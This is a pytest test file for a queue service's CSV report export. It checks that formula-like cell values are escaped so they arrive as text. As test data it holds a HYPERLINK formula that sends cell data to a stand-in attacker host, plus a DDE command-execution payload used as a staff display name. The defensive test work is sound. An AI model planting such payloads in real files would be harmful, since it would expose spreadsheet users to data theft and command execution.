"""CSV exports never hand a spreadsheet a formula: a text cell that starts with = + - @, a tab or a
carriage return (from a service or staff name an admin typed) arrives as text; numbers stay
numbers. (The XLSX export writes typed cells and is safe already.)"""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from counter.auth import Role, StaffPrincipal
from counter.queue.states import Action
from counter.service import QueueService
from reports.exports import csv_cell
from tests.conftest import DEMO_PASSWORDS, FakeClock, login

pytestmark = pytest.mark.usefixtures("demo")

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"ดูรายละเอียด")'
COMMAND = "+cmd|' /C calc'!A0"  # a staff member's display name


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("รับแจ้งการเกิด", "รับแจ้งการเกิด"),
        ("a=b", "a=b"),
        (-3, -3),
        (1.5, 1.5),
        (None, ""),
    ],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


async def test_service_and_staff_names_reach_the_csv_as_text(
    app_client: httpx.AsyncClient, queue: QueueService, clock: FakeClock
) -> None:
    admin = await login(app_client, "admin", DEMO_PASSWORDS["admin"])
    services = (await app_client.get("/api/v1/admin/services", headers=admin)).json()
    birth = next(s for s in services if s["code"] == "birth")
    patched = await app_client.patch(
        f"/api/v1/admin/services/{birth['id']}",
        json={"name_th": HYPERLINK, "name_en": "@SUM(1+1)"},
        headers=admin,
    )
    assert patched.status_code == 200, patched.text
    staff = (await app_client.get("/api/v1/admin/staff", headers=admin)).json()
    staff1 = next(s for s in staff if s["username"] == "staff1")
    renamed = await app_client.patch(
        f"/api/v1/admin/staff/{staff1['id']}", json={"display_name": COMMAND}, headers=admin
    )
    assert renamed.status_code == 200, renamed.text

    s1 = StaffPrincipal(staff1["id"], 1, "staff1", COMMAND, Role.STAFF)
    ticket = await queue.issue_ticket(1, "birth")
    clock.advance(minutes=3)
    await queue.call_ticket(s1, ticket.id, 1, "ทดสอบ")
    await queue.act(s1, ticket.id, Action.START)
    clock.advance(minutes=5)
    await queue.act(s1, ticket.id, Action.FINISH)

    manager = await login(app_client, "manager", DEMO_PASSWORDS["manager"])
    cells: list[str] = []
    for what in ("summary", "rows"):
        r = await app_client.get(
            f"/api/v1/reports/export?what={what}&format=csv&period=day&on=2026-11-27",
            headers=manager,
        )
        assert r.status_code == 200, r.text
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
        cells += [cell for row in rows for cell in row]
    # The names are there, as text (the service's Thai name opens a "ไทย / English" cell).
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert f"'{COMMAND}" in cells
    # Every cell a spreadsheet would evaluate is gone, whichever column it came from.
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
